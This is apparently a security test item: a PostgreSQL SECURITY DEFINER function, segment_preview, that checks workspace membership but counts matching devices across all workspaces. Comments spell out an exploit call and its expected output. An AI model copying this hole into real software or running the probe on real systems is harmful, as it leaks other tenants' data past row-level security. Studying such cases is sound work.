-- Anyone counts the devices of all workspaces by their tags, because the preview leaves the workspace out.
-- about: segment_preview, devices
-- as: hf_tapwire_app
-- exploit: SET request.jwt.claims = '{"sub": "usr|ann"}';
-- exploit: SELECT 'reach ' || segment_preview('aaaaaaaa-1111-0000-0000-000000000001', '{debtor}');
-- shows: reach 1
-- How many devices a segment would reach; counting past row security is much faster.
CREATE FUNCTION segment_preview(p_workspace uuid, p_tags text[]) RETURNS bigint
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = public, pg_temp
AS $$
BEGIN
  IF NOT member_of(p_workspace) THEN
    RAISE EXCEPTION 'not a member';
  END IF;
  RETURN (SELECT count(*) FROM devices d WHERE d.tags && p_tags);
END $$;
REVOKE ALL ON FUNCTION segment_preview(uuid, text[]) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION segment_preview(uuid, text[]) TO hf_tapwire_app;
